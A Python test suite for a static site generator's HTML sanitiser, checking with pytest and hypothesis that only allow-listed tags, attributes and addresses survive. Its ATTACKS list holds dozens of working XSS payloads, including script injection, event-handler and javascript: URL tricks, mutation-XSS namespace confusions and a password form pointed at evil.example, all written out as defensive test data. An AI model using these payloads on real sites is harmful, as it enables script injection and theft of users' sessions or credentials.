"""No tag, attribute or address outside the list leaves the sanitiser, and it changes nothing of its own output."""

from __future__ import annotations

import re

import html5lib
import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sitegen.model.safe_url import safe_url
from sitegen.render import markdown_gate
from sitegen.render.sanitise import TAGS, _once, sanitise

ATTRIBUTES = {
    "a": {"href", "class", "rel", "lang"},
    "img": {"src", "alt", "lang"},
    "abbr": {"title", "lang"},
    "ol": {"start", "lang"},
    "li": {"id", "dir", "lang"},
    "sup": {"id", "lang"},
    "div": {"class", "lang"},
    "td": {"class", "dir", "lang", "colspan", "rowspan"},
    "th": {"class", "dir", "lang", "colspan", "rowspan", "scope"},
}
COMMON = {"dir", "lang"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=media/a.png onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x" alt="`><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='\\\\evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='http://good.example@evil.example/'>x</a>",
    "<a href='http://x.y/' target=_blank onclick=alert(1) style='x:expression(alert(1))'>x</a>",
    "<p style='position:fixed;top:0' id=login name=cookie class=admin>x</p>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><link rel=stylesheet href=//e>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?><![CDATA[<script>alert(1)</script>]]>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<map name=x><area href=javascript:alert(1)></map><img usemap=#x src=media/a.png>",
    "<div id=fn-1 class='footnote mention'>x</div><a class=mention href=x-mention:actor:sdf>x</a>",
    "<img src='media/../../x.png'><img src=/etc/passwd><img src='media/a.png?x'><img src=//evil.example/x>",
    "<img src='media//evil.example/x'><img srcset='//evil.example/x 2x' src=media/a.png>",
    "<h1>x</h1><nav>x</nav><header>x</header><main>x</main>",
]


def assert_clean(html: str) -> None:
    """Read the HTML as a browser does and look at every element and attribute of it."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in tree.iter():
        tag = element.tag
        if tag == "DOCUMENT_FRAGMENT":
            continue
        assert isinstance(tag, str), "a comment"
        assert tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES.get(tag, COMMON)
        href = element.get("href")
        assert href is None or safe_url(href) == href or re.fullmatch(r"(?!//)[\w./#?=&+~%-]*", href)
        assert re.fullmatch(r"media/[\w./-]+", element.get("src", "media/x"))
        assert re.fullmatch(r"fn[\w-]+", element.get("id", "fn-x"))
        assert tag != "a" or element.get("rel") == "noreferrer"


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks(attack: str) -> None:
    for html in (attack, f"<p>{attack}</p>", f"<table><tr><td>{attack}", f"<a href='http://x.y'>{attack}"):
        clean = sanitise(html)
        assert_clean(clean)
        assert sanitise(clean) == clean


def test_text_of_dropped_tags_stays_but_that_of_scripts_and_styles_goes() -> None:
    assert sanitise("<h1>one</h1><blink>two</blink><script>three</script><style>four</style>") == "onetwo"


def test_what_is_listed_stays() -> None:
    kept = (
        '<h2 dir="auto">h</h2><ol start="3"><li dir="auto">i</li></ol><dl><dt dir="auto">t</dt><dd dir="auto">d</dd></dl>'
        '<p lang="ar" dir="auto">a<br><abbr title="x">b</abbr><sub>c</sub><del>d</del><ins>e</ins><q>f</q><bdi>g</bdi></p>'
        '<figure><img src="media/a/b-1.jpg" alt="a &amp; b"><figcaption dir="auto">c</figcaption></figure><hr>'
        "<pre><code>x\n  y</code></pre>"
    )
    assert sanitise(kept) == kept


def test_blocks_take_their_direction_from_their_words_whatever_the_author_says() -> None:
    assert sanitise('<p dir="rtl">x</p><td>') == '<p dir="auto">x</p>'
    assert sanitise("<blockquote>مرحبا</blockquote>") == '<blockquote dir="auto">مرحبا</blockquote>'


def test_links_say_no_referrer_and_addresses_are_evened() -> None:
    assert sanitise('<a rel="opener" href="HTTP://Example.org/a b">x</a>') == (
        '<a href="http://example.org/a%20b" rel="noreferrer">x</a>'
    )


def test_a_far_image_becomes_a_link_and_a_near_one_stays() -> None:
    assert sanitise('<img alt="a &quot;b&quot;" src="http://evil.example/p.gif">') == (
        '<a href="http://evil.example/p.gif" rel="noreferrer">a "b"</a>'
    )
    assert sanitise('<img src="http://evil.example/p.gif">') == (
        '<a href="http://evil.example/p.gif" rel="noreferrer">evil.example</a>'
    )
    assert sanitise('<img src="media/a.png" alt="">') == '<img src="media/a.png" alt="">'


def test_a_far_image_in_a_link_becomes_the_words_of_the_link() -> None:
    assert sanitise('<a href="http://x.y/"><img src="http://evil.example/p.gif" alt="map"></a>') == (
        '<a href="http://x.y/" rel="noreferrer">map</a>'
    )


def test_an_image_that_lies_nowhere_leaves_its_words() -> None:
    assert sanitise('<img src="data:image/png;base64,AA" alt="map">') == "map"
    assert sanitise('<img alt="map">') == "map"


def test_ids_are_those_of_notes_in_word_characters() -> None:
    assert sanitise('<sup id="fnref-a b"><a href="#fn-a b">1</a></sup>') == (
        '<sup id="fnref-a_b"><a href="#fn-a_b" rel="noreferrer">1</a></sup>'
    )
    assert sanitise('<li id="login">x</li>') == '<li dir="auto">x</li>'


def test_only_our_classes_stay() -> None:
    assert sanitise('<div class="footnote evil">x</div><div class="evil">y</div>') == (
        '<div class="footnote">x</div><div>y</div>'
    )


def test_the_order_of_attributes_is_always_the_same() -> None:
    html = '<td lang="ar" class="left" colspan="2">x</td>' * 50
    assert len(set(sanitise(f"<table>{html}</table>").split("</td>"))) == 3


NAMES = [*sorted(TAGS), "svg", "math", "style", "script", "title", "textarea", "noscript", "iframe", "mtext", "mglyph",
         "annotation-xml", "foreignObject", "desc", "select", "option", "template", "form", "nobr", "plaintext", "xmp", "h1"]  # fmt: skip
WITH = ["", " href='http://x.y/?a=b&c'", " href='java\tscript:x'", " href=/a/b#c", " src=http://e.example/x alt=t", " src=media/a.png",
        " class='footnote left'", " id=fn-1", " title='</p><img src=x onerror=1>'", " style=x onclick=x", " lang=ar dir=rtl"]  # fmt: skip
TAG = st.builds("<{}{}>".format, st.sampled_from(NAMES), st.sampled_from(WITH))
END = st.builds("</{}>".format, st.sampled_from(NAMES))
TEXT = st.sampled_from(["x", " ", "\n", "&lt;b&gt;", "&", '"', "<", ">", "<!--", "-->", "]]>", "\xa0", "مرحبا"])


@settings(max_examples=400)
@given(st.lists(TAG | END | TEXT, max_size=14).map("".join))
def test_whatever_is_tangled_comes_out_clean_and_stays_as_it_is(html: str) -> None:
    clean = sanitise(html)
    assert sanitise(clean, hand_written=False) == clean
    assert_clean(clean)


@given(st.text())
def test_plain_text_keeps_its_words(text: str) -> None:
    text = re.sub(r"[\ud800-\udfff\x00\r]", "", text)
    clean = sanitise(nh3.clean_text(text))
    assert clean == sanitise(clean)
    assert "<" not in clean


MARKDOWN = ["plain", "a > b & c", 'x="y"', "[a](https://x.org/b_c?d=e)", "[a](https://x.org/ü)", "[a](http://u@x.org/)", "[a](b/c.html)",
            "[a](javascript:x)", "[a](https://x.org 't')", "![i](https://x.org/j.jpg)", "![](https://x.org/j.jpg)", "![i](media/j.jpg)",
            "![i & j](https://x.org/k.jpg)", "[![i](https://x.org/j.jpg)](https://y.org/)", "![i](https://x.org/j.jpg 't')", "note[^1]",
            "![i\xa0“j”](https://x.org/k.png)", "*e*", '`<a href="https://x.org">`', "\n\n[^1]: n [a](https://x.org)", "\n\n    code\n\n",
            "\n\n> q\n\n", "\n\n- l\n\n", "\n\na | b\n:-- | ---\nc | d\n\n", f"[long](https://x.org/{'a' * 4100})", "مرحبا"]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(MARKDOWN), max_size=8).map(" ".join))
def test_what_the_parser_writes_comes_out_as_if_every_attribute_had_been_asked_about(text: str) -> None:
    made = markdown_gate.parser()
    html = made.convert(text)
    if not made.htmlStash.html_counter:
        assert sanitise(html, hand_written=False) == _once(html)
